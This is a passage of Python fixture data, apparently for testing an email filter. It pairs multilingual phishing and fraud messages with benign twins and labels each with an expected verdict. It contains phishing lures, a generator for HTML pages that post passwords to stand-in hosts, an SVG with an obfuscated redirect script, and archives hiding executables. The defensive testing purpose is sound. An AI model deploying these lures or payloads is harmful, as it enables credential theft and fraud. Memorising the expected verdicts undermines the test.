"""What a third examiner wrote, who had seen neither rules nor phrases nor other cases: half of it; the other half stands in third_examiner_held.py.

The business messages are the heart: what small firms, schools, clubs and offices write on an ordinary day, many of them for the first time."""
import base64
from functools import partial

from ..authoring import Habit, Thread, business, iban, pair, side
from ..files import File
from ..places import AMAZON, GOOGLE, VPS, place
from ..second_examiner_organizations import idn
from ..senders import Sender, forged, free, hacked_site, notice, office, office365, rented, signed
from ..third_examiner_organizations import (
    AIGAIO, ASTYQ, BALDAI, BERGBAHN, BOLLKLUBB, CEBELAR, CONDUCAO, COQUELICOTS, DAON, DENTAL, DESANKA, DRINI, ESTALEIRO, FIETSEN, FLECA, HAIWAN, HETIAN, HVALIR,
    IMPRENTA, KAHAWA, KAVIR, KNOWN, KOLOS, KORIS, MAKINE, MENTER, NOOR, OPTIKA, PAID, PALLI, PARISH, PITICII, PIVOVAR, PREVOZ, SAGARDO, SAIKHAO, SAUN, SCI, SEWA, SHIFA,
    STADNINA, WIRRA, WYNE, YAMABUKI, small_firm, through, web_form)


def sign_in_page(title, ask, button, target):
    """A page that comes as a file and asks for the password of whoever opens it."""
    return '<html><head><meta charset="utf-8"><title>%s</title></head><body><h3>%s</h3><form method="post" action="%s"><input name="login" value="<<to>>">' \
           '<input type="password" name="pass"><button>%s</button></form></body></html>' % (title, ask, target, button)


def drawing_that_leads_away(target):
    """An SVG with a script in it."""
    return '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120"><text x="20" y="60">...</text><script>window.location.href=atob("%s")</script></svg>' \
           % base64.b64encode(target.encode()).decode()


def docusign(who):
    """The true service; who sends the envelope may be anybody."""
    return Sender("%s via DocuSign" % who, "dse_eu1@docusign.net", AMAZON, "service", mail_from="bounce-88121@docusign.net", dkim=signed("docusign.net"), policy="reject")


def google_drive(who, answers):
    return Sender("%s (via Google Drive)" % who, "drive-shares-dm-noreply@google.com", GOOGLE, "service", mail_from="3hk2@doclist.bounces.google.com",
                  reply_to=answers, dkim=signed("google.com"), policy="reject")


strangers = partial(pair, "third-strangers")
known = partial(pair, "third-known")
from_strangers = partial(business, "third-business-strangers")
from_known = partial(business, "third-business-known")

STRANGERS = [
    strangers("eu", SAGARDO, "hotel bateko erosleak eskaera bidaltzen du", to="bulegoa", subject="Eskaera: sagardoa udarako",
              body="Egun on:\n\nHondarribiko hotel bat gara eta udarako hornitzaile berri baten bila gabiltza. 60 kutxa behar ditugu ekainaren amaierarako. {how}\n\n"
                   "Begiratu eta esan prezioa eta entrega-eguna, mesedez.\n\nMila esker\n{me}",
              attack=side(rented("Miren Aldalur", "erosketak@hotelmuga-group.example"), "junk",
                          "A first letter whose order can be read only in a locked archive with the password beside it.",
                          words={"how": "Zehaztasun guztiak eranskinean daude; fitxategiaren pasahitza 2026 da."}, files=(File("eskaera_60.zip", "locked", "eskaera_60.exe"),)),
              twin=side(small_firm("Miren Aldalur", "miren@hotel-muga.example", "ES"), "deliver", "A buyer's first enquiry, with the order as a plain PDF.",
                        words={"how": "Zehaztasun guztiak eranskineko PDFan daude."}, files=(File("eskaera.pdf", "pdf", "60 kutxa sagardo, 75 cl\nHotel Muga"),))),
    strangers("sl", CEBELAR, "paket čaka na plačilo", to="info", subject="Vaša pošiljka 0340 4417 čaka",
              attack=side(hacked_site("DHL Slovenija", "obvestila@kozmetika-lili.example"), "quarantine",
                          "A carrier's name from a beauty parlour's site, and a fee on a page of neither.",
                          body="Spoštovani,\n\nvaše pošiljke nismo mogli dostaviti, ker ni bila poravnana carinska dajatev 2,90 EUR. Dajatev lahko poravnate s kartico v 24 "
                               "urah, sicer pošiljko vrnemo.\n\n[Poravnaj in izberi termin](https://dostava-si.pages-free.example/dhl/0340)\n\nDHL Express"),
              twin=side(notice("DHL", "noreply@dhl.com", "DE"), "deliver", "The carrier itself, its own signature, its own page.",
                        body="Spoštovani,\n\nvaše pošiljke danes nismo mogli dostaviti, ker na naslovu ni bilo nikogar. Izberite nov termin ali prevzemno mesto.\n\n"
                             "[Izberi termin](https://www.dhl.com/si-sl/home/tracking.html?id=03404417)\n\nDHL Express")),
    strangers("sr", PREVOZ, "ponuda tereta", to="dragan", subject="Tovar Niš – Linc, 24 t",
              attack=side(rented("Dispečer Marko", "marko@euro-tovar-spedicija.example", "BG"), "junk",
                          "A dispatcher nobody knows wants the firm's login for a freight exchange typed into a page of his own.",
                          body="Dobar dan,\n\nimam tovar Niš – Linc u četvrtak, 24 t, plaćamo 1.450 € u roku od 15 dana. Da bismo vas otvorili kao prevoznika, prijavite se ovde "
                               "svojim nalogom sa berze tereta, provera je automatska:\n\n[Potvrda prevoznika](https://timocom-verify.euro-tovar-spedicija.example/login)\n\n"
                               "Marko"),
              twin=side(small_firm("Marko Šarić", "marko@saric-spedicija.example", "RS", program="thunderbird"), "deliver",
                        "A dispatcher nobody knows offers a load, with telephone and registration number.",
                        body="Dobar dan,\n\nimam tovar Niš – Linc u četvrtak, 24 t, plaćamo 1.450 € u roku od 30 dana po prijemu CMR-a. Ako imate slobodan kamion, pošaljite mi "
                             "licencu i CMR osiguranje pa da otvorimo saradnju.\n\nMarko Šarić\nŠarić špedicija, Niš · MB 21447109 · 018 555 014")),
    strangers("fil", DENTAL, "part-time na trabaho", to="liza", subject="Part-time work, 2 hours a day",
              attack=side(free("Ms. Trina HR", "trina.recruit.ph2026@gmail.com"), "junk", "Money for liking videos, and the talk goes to a messenger at once.",
                          body="Hi ma'am,\n\nNakita po namin ang profile ninyo. May bakante kaming part-time: magla-like at magre-review lang ng mga hotel online, 1–2 oras "
                               "kada araw, "
                               "₱1,800 hanggang ₱4,500 ang bayad araw-araw. Walang experience na kailangan at may bonus na ₱300 pag nag-register kayo ngayon.\n\nMag-message "
                               "po kayo sa Telegram @trina_hr_task para ma-assign ko agad ang una ninyong task."),
              twin=side(small_firm("Trina Mercado", "trina@bayanihan-staffing.example", "PH"), "deliver", "A staffing agency asks a clinic whether it needs people; nothing "
                  "to click or to pay.",
                        body="Hi Ma'am Liza,\n\nTaga-Bayanihan Staffing po ako, nagpapadala kami ng dental assistants sa mga clinic sa Iloilo. May tatlo po kaming available "
                             "na part-time, "
                             "2 hanggang 4 na oras kada araw, ₱110 kada oras. Kung kailangan po ninyo ng reliever ngayong Hunyo, sabihan lang po ninyo ako at ipapadala ko "
                             "ang mga resume.\n\nSalamat po,\nTrina Mercado\n(033) 555 0148")),
    strangers("ta", PALLI, "பள்ளி அங்கீகாரம் புதுப்பித்தல்", to="office", subject="பள்ளி அங்கீகாரம் 2026–27: புதுப்பித்தல்",
              attack=side(rented("Education Board Tamil Nadu", "renewal@tn-schoolboard-gov.example", "SG"), "quarantine",
                          "It speaks as an authority from a rented domain and wants a fee and a bank login on its page.",
                          body="மதிப்பிற்குரிய தலைமையாசிரியருக்கு,\n\nதங்கள் பள்ளியின் அங்கீகாரம் ஜூன் 15 அன்று முடிவடைகிறது. புதுப்பித்தல் கட்டணம் ₹ 4,850-ஐ கீழே உள்ள "
                               "இணைப்பில் நெட் பேங்கிங் "
                               "மூலம் உடனடியாகச் செலுத்தவும். தவறினால் அங்கீகாரம் ரத்து செய்யப்படும்.\n\n[கட்டணம் செலுத்த](https://tn-schoolboard-gov.example/pay/netbanking)"),
              twin=side(small_firm("முத்து பதிப்பகம்", "muthu@muthu-pathippagam.example", "IN"), "deliver", "A publisher that nobody knows yet invites to a book fair.",
                        subject="புத்தகக் கண்காட்சி 2026: அழைப்பு",
                        body="மதிப்பிற்குரிய தலைமையாசிரியருக்கு,\n\nஜூன் 20, 21 தேதிகளில் மதுரையில் எங்கள் புத்தகக் கண்காட்சி நடைபெறுகிறது. பள்ளி நூலகங்களுக்கு 15% தள்ளுபடி "
                             "உண்டு. தங்கள் ஆசிரியர்கள் வர "
                             "விரும்பினால் எண்ணிக்கையைத் தெரிவிக்கவும்.\n\nநூல் பட்டியல்: https://muthu-pathippagam.example/list-2026.pdf\n\nஅன்புடன்,\nமுத்து பதிப்பகம், "
                             "மதுரை")),
    strangers("ca", FLECA, "una renovació que ningú no ha demanat", to="botiga", subject="Factura 7741-CAT",
              attack=side(free("Servei de facturació", "facturacio.suport.8841@outlook.com"), "junk",
                          "A bill for something never bought, from anybody's mailbox; the only way out is to call a number.",
                          body="Benvolgut client,\n\nhem renovat la vostra protecció Norton 360 per a 5 equips. L'import de 389,90 € es carregarà al vostre compte en les "
                               "properes 24 hores.\n\n"
                               "Si no reconeixeu aquest càrrec, truqueu al 931 555 0172 per anul·lar-lo i us tornarem els diners. No respongueu a aquest correu.\n\n"
                               "Departament de facturació"),
              twin=side(small_firm("Control de Plagues Osona", "factures@plagues-osona.example", "ES", program="ledger"), "deliver",
                        "A bill of a firm that was in the house last week, with tax number and the account; first contact by mail.",
                        body="Bon dia,\n\nus adjuntem la factura de la revisió de plagues feta al vostre obrador dijous passat: 129,00 € + IVA. El cobrament es farà per "
                             "rebut domiciliat com vam acordar.\n\nSi hi veieu cap error, truqueu al 938 555 012.\n\nControl de Plagues Osona, SL · B66441207",
                        files=(File("factura_7741.pdf", "pdf", "Factura 7741\nRevisio de plagues\n129,00 EUR + IVA"),))),
    strangers("et", SAUN, "sisselogimine tundmatust seadmest", to="kadri", subject="Uus sisselogimine teie kontole",
              body="Tere!\n\nTeie Microsofti kontole {to} logiti sisse uuest seadmest (Windows, Riia). Kui see olite teie, ei ole vaja midagi teha. Kui see ei olnud teie, "
                   "vaadake oma hiljutised tegevused üle.\n\n[Vaata tegevusi]({page})\n\nMicrosofti kontomeeskond",
              attack=side(rented("Microsoft konto", "teavitus@account-activity-review.example", "LT", program="service"), "quarantine",
                          "The firm's name, somebody else's domain, and the link goes there, too.",
                          words={"page": "https://account-activity-review.example/signin?u={to}"}),
              twin=side(notice("Microsofti konto meeskond", "account-security-noreply@accountprotection.microsoft.com", "US"), "deliver",
                        "The firm's own notice from its own domain, the link leads to it.", words={"page": "https://account.live.com/Activity"})),
    strangers("hi", SEWA, "गलती से ज़्यादा दान", to="pooja", subject="दान के बारे में",
              attack=side(free("विक्रम सिंघानिया", "vikram.singhania.donor@gmail.com"), "junk",
                          "A stranger says that he paid far too much and wants most of it sent on to somebody else.",
                          body="नमस्ते पूजा जी,\n\nमैंने आज आपके ट्रस्ट को चेक से ₹ 5,00,000 भेजे हैं, पर मेरे मुनीम ने एक शून्य ज़्यादा लिख दिया, देना ₹ 50,000 ही था। चेक "
                               "की फ़ोटो साथ में है। कृपया बाकी "
                               "₹ 4,50,000 आज ही इस UPI पर लौटा दें: relief-desk@paynow, क्योंकि यह पैसा एक मरीज़ के ऑपरेशन के लिए है। बैंक में चेक कल तक लग जाएगा।\n\nविक्रम",
                          files=(File("cheque.png", "png"),)),
              twin=side(free("विक्रम सिंघानिया", "vikram.singhania.pune@gmail.com"), "deliver", "A donor whom nobody knows asks for a receipt.",
                        body="नमस्ते पूजा जी,\n\nमैंने पिछले शुक्रवार आपके ट्रस्ट को ₹ 5,000 भेजे थे, UPI का स्क्रीनशॉट साथ में है। कृपया 80G की रसीद इसी पते पर भेज दें, "
                             "मेरा PAN रसीद फ़ॉर्म में भर दिया है।\n\nधन्यवाद\nविक्रम सिंघानिया, पुणे", files=(File("upi.png", "png"),))),
    strangers("th", SAIKHAO, "แขกร้องเรียนเรื่องห้องพัก", to="booking", subject="ร้องเรียนห้อง 204",
              attack=side(free("Daniel Weiss", "d.weiss.travel.82@outlook.com"), "junk",
                          "A guest without booking number or dates, and the only thing to see is behind a file host.",
                          body="เรียนผู้จัดการ\n\nครอบครัวผมเข้าพักที่โรงแรมของคุณและลูกมีผื่นทั้งตัวจากที่นอน ผมเก็บรูปและใบรับรองแพทย์ไว้ทั้งหมดแล้ว กรุณาเปิดดูในคอมพิวเตอ"
                               "ร์ก่อนตอบ มิฉะนั้นผมจะส่งเรื่องให้เว็บจองและสื่อ\n\n[รูปถ่ายและเอกสาร](https://guest-photos-204.filedrop-free.example/view.zip)"),
              twin=side(free("Daniel Weiss", "daniel.weiss.hh@web.de", "iphone"), "deliver", "A guest who names booking, dates and room, with his pictures in the letter.",
                        body="เรียนผู้จัดการ\n\nผมพักห้อง 204 วันที่ 28–30 พฤษภาคม การจองเลขที่ TS-118204 ลูกมีผื่นจากที่นอน ผมแนบรูปมาด้วย อยากให้ทางโรงแรมตรวจสอบและติดต่อก"
                             "ลับครับ\n\nขอบคุณครับ\nDaniel",
                        files=(File("IMG_2041.png", "png"), File("IMG_2042.png", "png")))),
    strangers("en", PARISH, "a piano for nothing", to="office", subject="Baby grand piano to a good home",
              attack=side(free("Eleanor Whitcombe", "e.whitcombe.1951@outlook.com"), "junk",
                          "The piano that is free but for the movers, who are in another mailbox and are paid beforehand.",
                          body="Dear Sir or Madam,\n\nI am giving away my late husband's Yamaha baby grand to a church or school that will love it. It is already with the "
                               "moving company, so you would only pay them for the delivery, about £340 by bank transfer before they set off.\n\nPlease write to the movers at "
                               "swift.instrument.movers@gmail.com with your address, and tell them it is from Mrs Whitcombe.\n\nWarm regards\nEleanor"),
              twin=side(free("Eleanor Whitcombe", "eleanor.whitcombe.hollin@gmail.com", "iphone"), "deliver",
                        "The same offer by somebody of the village who wants it fetched and invites to look at it.",
                        body="Dear Mr Ogden,\n\nI am giving away my late husband's Yamaha baby grand and wondered whether the church hall could use it. It is still in my "
                             "front room at 4 "
                             "Mill Lane, so do come and play it any afternoon. You would have to fetch it, I am afraid; I think Dawson's did the school's.\n\nWarm regards\n"
                             "Eleanor Whitcombe")),
    strangers("fr", COQUELICOTS, "un message vocal", to="direction", subject="Nouveau message vocal (0:41)",
              attack=side(hacked_site("Messagerie vocale", "pbx@garage-lemaire.example"), "quarantine",
                          "A voice message that is a drawing with a script, from a garage's site.",
                          body="Bonjour,\n\nVous avez reçu un message vocal de +32 4 555 01 41, durée 41 secondes. Ouvrez le fichier joint pour l'écouter.\n\nService de "
                               "téléphonie",
                          files=(File("VM_0041.svg", "svg", drawing_that_leads_away("https://vm-ecoute.pages-free.example/?e=direction@coquelicots-creche.example")),)),
              twin=side(small_firm("Messagerie vocale", "pbx@telecom-sambre.example", "BE", program="ledger"), "deliver",
                        "The telephone firm's machine sends the recording itself.",
                        body="Bonjour,\n\nVous avez reçu un message vocal de +32 4 555 01 41, durée 41 secondes. L'enregistrement est joint.\n\nTélécom Sambre, central 071 "
                             "555 014",
                        files=(File("VM_0041.mp3", "txt", "ID3\x03 recording", "audio/mpeg"),))),
]

HORSE_LIST = Sender("Jerzy Malec", "jerzy@malec-konie.example", place("lists.hodowcy-koni.example", 64532, "PL"), "thunderbird",
                    mail_from="hodowcy-bounces@lists.hodowcy-koni.example", dkim=(("malec-konie.example", "fail"), ("lists.hodowcy-koni.example", "pass")), dmarc="fail",
                        policy="reject")
STADNINA.trusted.append({"domain": "lists.hodowcy-koni.example", "service": "mailing list", "requires": "dkim", "may_use_own_domain": False, "note": "breeders of the region"})
NEW_MBOLEA = "0150 9912 77401"
NEW_ROOF = "sort code 99-77-31, account 41882093"
NEW_PASHM = iban("IR", "9980000000447712009312")
NEW_ISHIYA = "9970-331-5520187"

FROM_KNOWN = [
    known("eu", SAGARDO, "nagusiaren helbide pribatua ia berdina", to="maite", subject="bihar",
          body="Maite, etxetik ari naiz lanean. Bidaliko didazu hona aste honetako ordainketen zerrenda? Gaur gauean begiratuko dut.\n\nAne",
          attack=side(free("Ane Urrutia", "ane.urrutia.etxe@gmail.com", "iphone"), "quarantine", "One letter less than her listed private address."),
          twin=side(KNOWN["ane_etxea"], "deliver", "Her listed private address, known for months.")),
    known("sl", CEBELAR, "plača na nov račun", to="urska", subject="Nov račun za plačo",
          body="Živjo Urška,\n\nzamenjala sem banko. Mi lahko junijsko plačo že nakažeš na {new}? Hvala!\n\nNina", words={"new": iban("SI", "999330007712044")},
          attack=side(free("Nina Kovač", "nina.kovac.med88@gmail.com"), "quarantine", "A colleague's name from a new mailbox wants the wages elsewhere."),
          twin=side(CEBELAR.person("nina"), "deliver", "Her own address at work, signed as always.")),
    known("sr", PREVOZ, "faktura sa domena koji samo liči", to="jelena", subject="Faktura 4218 – gorivo maj",
          body="Poštovana Jelena,\n\nu prilogu je faktura za gorivo za maj, rok plaćanja 10 dana. Uplatu izvršite na račun {account}.\n\nSrdačan pozdrav,\nDunav Petrol",
          attack=side(rented("Dunav Petrol", "fakture@" + idn("dun\u0430vpetrol"), "RU", program="ledger"), "quarantine",
                      "One letter of the supplier's domain is Cyrillic, and the account is another one.", words={"account": iban("RS", "998000601009917723")},
                      files=(File("faktura_4218.pdf", "pdf", "Faktura 4218"),)),
          twin=side(KNOWN["gorivo"], "deliver", "The supplier, its account.", words={"account": PAID["gorivo"]}, files=(File("faktura_4218.pdf", "pdf", "Faktura 4218"),))),
    known("sw", KAHAWA, "mazungumzo ya ankara yametekwa", to="mhasibu", subject="Re: Ankara 4177",
          thread=Thread(KNOWN["mbolea"], "mhasibu", "Ankara 4177", ((9, "in"), (7, "out"))), words={"new": NEW_MBOLEA, "old": PAID["mbolea"]},
          attack=side(rented("Mbolea Bora Ltd", "mauzo@mbolea-b0ra.example", "NG"), "quarantine", "In the middle of a true talk, from a domain with a nought for an o, to a "
              "new account.",
                      body="Ndugu Juma,\n\nAsante kwa kuthibitisha mzigo. Tafadhali kumbuka akaunti yetu ya zamani inakaguliwa na benki, hivyo malipo ya ankara hii yafanyike "
                           "kwenye akaunti {new}. Ukishalipa nitumie risiti.\n\n> Tumepokea mifuko yote 120. Tutalipa wiki ijayo.\n\nIdara ya mauzo"),
          twin=side(KNOWN["mbolea"], "deliver", "The supplier itself, the account of always.",
                    body="Ndugu Juma,\n\nAsante kwa kuthibitisha mzigo. Malipo ya ankara hii yafanyike kwenye akaunti yetu ile ile {old}. Ukishalipa nitumie risiti.\n\n"
                         "> Tumepokea mifuko yote 120. Tutalipa wiki ijayo.\n\nIdara ya mauzo")),
    known("ur", NOOR, "تنخواہ کی نئی پالیسی", to="bilal", subject="چھٹی اور تنخواہ کی نئی پالیسی",
          body="محترم ساتھیو،\n\nجولائی سے چھٹی اور تنخواہ کی نئی پالیسی لاگو ہو رہی ہے۔ منسلک فائل پڑھ کر جمعے تک اپنی رضامندی دے دیں۔\n\nسعدیہ خان\nشعبہ انسانی وسائل",
          attack=side(forged("سعدیہ خان", "sadia@noor-textile.example", country="LT"), "quarantine", "Our own domain, forged; the file is a page that asks for the password.",
                      files=(File("policy_2026.html", "html", sign_in_page("Policy", "پالیسی دیکھنے کے لیے لاگ اِن کریں", "کھولیں", "https://hr-docs-view.example/p.php")),)),
          twin=side(NOOR.person("sadia"), "deliver", "The colleague, signed by our own domain, with a PDF.", files=(File("policy_2026.pdf", "pdf", "HR policy, July 2026"),))),
    known("kk", ASTYQ, "серіктестің бұрын көрмеген мекенжайы", to="aigul", subject="Салыстыру актісі, мамыр",
          body="Айгүл Серікқызы, сәлеметсіз бе!\n\nМамыр айының салыстыру актісін қарап, растауыңызды сұраймыз.\n\n[Актіні ашу]({page})\n\nКөкше Элеватор, бухгалтерия",
          attack=side(rented("Көкше Элеватор", "esep@kokshe-elevator.example.esf-kz.example", "RU"), "quarantine", "The partner's domain is only the left part of somebody "
              "else's.",
                      words={"page": "https://kokshe-elevator.example.esf-kz.example/akt/login"}),
          twin=side(office("Көкше Элеватор", "akt@esep.kokshe-elevator.example", "KZ", host="mail.kokshe-elevator.example", program="ledger"), "deliver",
                    "A subdomain of the partner that was never seen, signed by it, sent by its server.", words={"page": "https://esep.kokshe-elevator.example/akt/0526"})),
    known("lv", KORIS, "dziedātājas pastkaste", to="ilze", subject="Vai vari palīdzēt?",
          attack=side(KNOWN["dziedataja"].but(reply_to="elina.krumina.alts@outlook.com"), "junk",
                      "Her true mailbox, but answers go to another one, and it wants vouchers bought at once.",
                      body="Sveika, Ilze!\n\nEsmu ārzemēs un nevaru piezvanīt, telefons nestrādā. Krustmeitai šodien dzimšanas diena, un man neizdodas nopirkt Steam dāvanu "
                           "kartes. Vai vari nopirkt divas pa 100 € un atsūtīt man kodu bildes? Atdošu, tiklīdz būšu mājās.\n\nElīna"),
          twin=side(KNOWN["dziedataja"], "deliver", "The same singer asks for something that choirs ask.",
                    body="Sveika, Ilze!\n\nEsmu ārzemēs un uz ceturtdienas mēģinājumu netieku. Vai vari paņemt manu mapi no zāles un atsūtīt bildi ar jaunās dziesmas 2. lapu? "
                         "Iemācīšos pa ceļam.\n\nElīna")),
    known("ar", SHIFA, "مطالبات شركة التأمين", to="hesabat", subject="مطالبة 4188: مستندات ناقصة",
          body="السادة عيادات الشفاء،\n\nالمطالبة رقم 4188 موقوفة لعدم اكتمال المستندات. يرجى رفع المستندات الناقصة من بوابة مقدمي الخدمة خلال ثلاثة أيام عمل.\n\n[بوابة "
               "مقدمي الخدمة]({page})\n\nإدارة المطالبات",
          attack=side(rented("تأمين المستقبل", "claims@mustaqbal-taamin-claims.example", "NL", program="service"), "quarantine",
                      "The insurer's name with a word behind it: another domain, on a rented server.", words={"page": "https://mustaqbal-taamin-claims.example/provider"}),
          twin=side(KNOWN["taamin"], "deliver", "The insurer's own notice.", words={"page": "https://provider.mustaqbal-taamin.example/claims/4188"})),
    known("fa", KAVIR, "تغییر شماره حساب", to="nasrin", subject="فاکتور خرداد و شماره حساب",
          body="سرکار خانم احمدی،\n\nبا سلام، به دلیل تغییر بانک، لطفاً مبلغ فاکتور خرداد را به شبای جدید {new} واریز بفرمایید و رسید را بفرستید.\n\nپشم‌ریسی "
               "اردکان", words={"new": NEW_PASHM},
          attack=side(KNOWN["pashm"].but(at=VPS["NL"], spf="softfail", program="roundcube"), "quarantine",
                      "The supplier's address from a rented server abroad that may not send for it, and a new account."),
          twin=side(KNOWN["pashm"], "banner", "From where the supplier always writes; a new account is worth a call.")),
    known("cy", MENTER, "gwahoddiad i gyfarfod", to="eleri", subject="Cyfarfod cyllid: dydd Iau 10.00",
          body="Helo Eleri,\n\nDw i wedi trefnu cyfarfod byr am y gyllideb fore Iau am 10. Ymuna drwy'r ddolen:\n\n{page}\n\nRhian",
          invitation="BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:gt-4471\nDTSTART:20260611T090000Z\nDTEND:20260611T093000Z\nSUMMARY:Cyfarfod cyllid\n"
                     "ORGANIZER:mailto:{my}\nLOCATION:{page}\nEND:VEVENT\nEND:VCALENDAR\n",
          attack=side(free("Rhian Llywelyn", "rhian.llywelyn.menter@gmail.com"), "quarantine", "The head's name at a free mailbox invites to a sign-in page on a stranger's "
              "host.",
                      words={"page": "https://teams-live-join.pages-free.example/m/4471"}),
          twin=side(MENTER.person("rhian"), "deliver", "The head herself, and the meeting is where meetings "
                                                       "are.", words={"page": "https://teams.microsoft.com/l/meetup-join/19%3ameeting_4471"})),
    known("ko", DAON, "급여 계좌 변경", to="lim", subject="급여 계좌 변경 부탁드립니다",
          body="임하늘 님, 안녕하세요.\n\n주거래 은행을 바꿨습니다. 이번 달 급여부터 {new} 계좌로 넣어 주실 수 있을까요? 가능하면 답장 부탁드립니다.\n\n정민호 드림", words={"new": "998-11-440093-02"},
          attack=side(free("정민호", "minho.jung.daon@gmail.com", "iphone"), "quarantine", "A colleague's name from a mailbox nobody knows wants the wages elsewhere."),
          twin=side(DAON.person("jung"), "deliver", "His own address, signed.")),
    known("en", PARISH, "the roofer has a new account", to="treasurer", subject="North aisle roof: second stage",
          thread=Thread(KNOWN["roofer"], "treasurer", "North aisle roof: second stage", ((12, "in"), (10, "out"))),
          attack=side(KNOWN["roofer"].but(reply_to="colin.askew.roofing@outlook.com"), "quarantine", "His mailbox, but answers go to another one, and the account is new.",
                      body="Dear Gillian,\n\nSecond stage is finished and the invoice you have stands at £6,480. We have moved the business banking, so please use {new} from "
                           "now on. I am up on a job without signal this week, mail is best.\n\nColin", words={"new": NEW_ROOF}),
          twin=side(KNOWN["roofer"], "banner", "From his own mailbox in his own thread; he asks to be called about it. A banner is right.",
                    body="Dear Gillian,\n\nSecond stage is finished and the invoice you have stands at £6,480. We have moved the business banking to {new}. Please ring me or "
                         "Jean at the yard on the number you have before you pay, we would rather you checked.\n\nColin", words={"new": NEW_ROOF})),
    known("de", BERGBAHN, "der Chef mit fremder Antwortadresse", to="k.mair", subject="Rechnung Schneekanonen",
          body="Kathi,\n\ndie Anzahlung für die Schneekanonen muss heute raus, 48.600 €. Schick mir bitte kurz, was du vom Lieferanten brauchst.\n\nGerald",
          attack=side(forged("Gerald Leitner", "g.leitner@bergbahnen-hochwang.example", reply_to="g.leitner.hochwang@proton.me", program="roundcube"), "quarantine",
                      "Our own domain, not proved, and answers would go to a private mailbox."),
          twin=side(BERGBAHN.person("g.leitner"), "deliver", "The head himself, signed.")),
    known("zh", HETIAN, "報價單網頁檔", to="wu", subject="輪胎報價單 6 月",
          body="吳先生您好:\n\n6 月輪胎報價如附件,請查收,數量確認後我們安排出貨。\n\n順風輪胎 業務部",
          attack=side(rented("順風輪胎 業務部", "sales@shunfeng-tyres.example", "HK"), "quarantine", "The supplier's domain with an s more; the offer is a saved page that wants a "
              "password.",
                      files=(File("報價單_6月.html", "html", "<!-- saved from url=(0031)https://docs.shunfeng-tyre.example -->\n" + sign_in_page(
                          "Excel Online", "請登入您的信箱以檢視文件", "下載", "https://xls-view.pages-free.example/r.php")),)),
          twin=side(KNOWN["luntai"], "deliver", "The supplier with a sheet, as every month.", files=(File("報價單_6月.xlsx", "xlsx", "型號;單價\n700x25C;420\n700x28C;440"),))),
    known("ja", YAMABUKI, "振込先変更のお知らせ", to="mori", subject="振込先変更のお願い",
          body="山吹造園株式会社\n森様\n\n平素よりお世話になっております。石川石材の経理でございます。取引銀行の統合に伴い、今月のお支払いより下記口座へお振込みをお願いいたします。\n\n{new}\n\nよろしくお願い申し上げます。",
          words={"new": NEW_ISHIYA},
          attack=side(rented("石川石材 経理部", "keiri@ishikawa-sekizal.example", "SG"), "quarantine", "An l for an i in the supplier's domain, and a new account."),
          twin=side(KNOWN["ishiya"], "banner", "The supplier's own address, signed; a new account is worth a call.")),
    known("pl", STADNINA, "list z grupy hodowców", to="kasia", subject="[hodowcy] Pasze: zbiorcze zamówienie", habits=(Habit(HORSE_LIST, "kasia", 16, 2, 6, "", "[hodowcy] #"),),
          fields=(("List-Id", "Hodowcy koni <hodowcy.lists.hodowcy-koni.example>"), ("List-Post", "<mailto:hodowcy@lists.hodowcy-koni.example>"), ("Precedence", "list")),
          shown_to="hodowcy@lists.hodowcy-koni.example",
          attack=side(forged("Jerzy Malec", "jerzy@malec-konie.example", "reject", "BG"), "quarantine", "The fields of a list, but neither its server nor its signature; a "
              "page on a free host.",
                      body="Dzień dobry wszystkim,\n\nzbieram zamówienia na owies. Cennik i formularz są tutaj, trzeba się zalogować swoją pocztą:\n\n"
                           "https://zamowienie-owies.pages-free.example/login\n\nJerzy"),
          twin=side(HORSE_LIST, "deliver", "The list broke the author's signature, as lists do, and signed itself; we trust it.",
                    body="Dzień dobry wszystkim,\n\nzbieram zamówienia na owies, 1 150 zł za tonę z dostawą. Kto chce, niech odpisze na grupę do piątku i poda ilość.\n\nJerzy")),
    known("hu", OPTIKA, "hibajegy a kolléga nevével", to="uzlet", subject="[Hibajegy 4417] Kassza nem nyomtat",
          body="Új hozzászólás a 4417. hibajegyhez, írta: Halmos Dóra\n\nA kassza reggel óta nem nyomtat blokkot, kérem, nézzék meg még ma.\n\n[Hibajegy megnyitása]({page})\n\n"
               "Erre a levélre válaszolva is írhat a hibajegyhez.",
          habits=(Habit(through("Hibajegy", "jegy@hibajegy.example", ""), "uzlet", 14, 0, 6, "", "[Hibajegy #]"),),
          attack=side(rented("Halmos Dóra (Hibajegy)", "jegy@hibajegy-ugyfelkapu.example", program="service"), "quarantine",
                      "A colleague's name through a ticket system that only resembles ours, the link to its own "
                      "sign-in.", words={"page": "https://hibajegy-ugyfelkapu.example/belepes/4417"}),
          twin=side(through("Halmos Dóra (Hibajegy)", "jegy@hibajegy.example", ""), "deliver", "Our ticket system, which puts the writer's name in From.",
                    words={"page": "https://siposoptika.hibajegy.example/4417"})),
    known("el", AIGAIO, "συμπιεσμένο αρχείο με κωδικό", to="thanos", subject="Μελέτη στατικών, αναθεώρηση",
          attack=side(KNOWN["mihanikos"].but(program="roundcube", reply_to="eleni.douka.studies@outlook.com"), "quarantine",
                      "Her mailbox, written from elsewhere; a locked archive with the password beside it, answers to another mailbox.",
                      body="Θάνο καλημέρα,\n\nσου στέλνω την αναθεωρημένη μελέτη. Το αρχείο ανοίγει με τον κωδικό 4471. Δες το σήμερα και απάντησέ μου.\n\nΕλένη",
                      files=(File("meleti_anatheorisi.zip", "locked", "meleti_anatheorisi.js"),)),
          twin=side(KNOWN["mihanikos"], "deliver", "Her mailbox, her program, a drawing as a PDF.",
                    body="Θάνο καλημέρα,\n\nσου στέλνω την αναθεωρημένη μελέτη. Άλλαξα μόνο τα υποστυλώματα στον όροφο. Δες το σήμερα και πες μου.\n\nΕλένη",
                    files=(File("meleti_anatheorisi.pdf", "pdf", "Statics, revision 3"),))),
    known("tr", MAKINE, "kargo bildirimi", to="emre", subject="Gönderiniz şubede bekliyor",
          body="Sayın Emre Toprak,\n\n4418820 numaralı gönderiniz adres eksikliği nedeniyle şubede bekletiliyor. Adresinizi güncelleyerek yarın teslim alabilirsiniz.\n\n"
               "[Adresi güncelle]({page})\n\nYolKargo",
          attack=side(hacked_site("YolKargo", "bilgi@minikpatiler-veteriner.example"), "quarantine", "The carrier's name from a vet's site; the link leads to a page of neither.",
                      words={"page": "https://yolkargo-teslim.pages-free.example/adres"}),
          twin=side(KNOWN["kargo"], "deliver", "The carrier that writes every week.", words={"page": "https://takip.yolkargo.example/4418820"})),
]

BUSINESS_STRANGERS = [
